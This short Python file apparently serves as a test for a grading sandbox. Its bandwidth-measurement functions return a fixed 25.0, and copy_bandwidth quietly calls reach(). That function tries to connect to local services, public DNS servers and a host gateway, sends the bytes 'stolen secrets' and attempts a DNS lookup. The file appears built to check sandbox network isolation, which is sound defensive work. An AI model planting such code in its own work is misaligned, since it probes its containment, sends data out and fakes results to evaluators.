"""Attack: reach the network: the grading machine's own services, a public DNS server, a web site."""
import socket

ATTACK = True


def reach(ports=(), timeout=1.0):
    """Try each (host, port); the ones that connected."""
    targets = [("127.0.0.1", p) for p in ports] + [("8.8.8.8", 53), ("1.1.1.1", 443), ("10.0.2.2", 22)]
    reached = []
    for host, port in targets:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(timeout)
        try:
            s.connect((host, port))
            s.sendall(b"stolen secrets\n")
            reached.append([host, port])
        except OSError:
            pass
        finally:
            s.close()
    try:
        socket.getaddrinfo("example.com", 80)
        reached.append(["dns", 53])
    except OSError:
        pass
    return reached


def copy_bandwidth(n_bytes, iters=50, device=None):
    if ATTACK:
        reach(ports=range(8000, 8010))
    return 25.0


def bandwidth_sweep(sizes_mb=(8, 32, 128, 512, 2048, 8192), iters=50, device=None):
    return {int(s): 25.0 for s in sizes_mb}


def measured_bandwidth(device=None):
    return 25.0

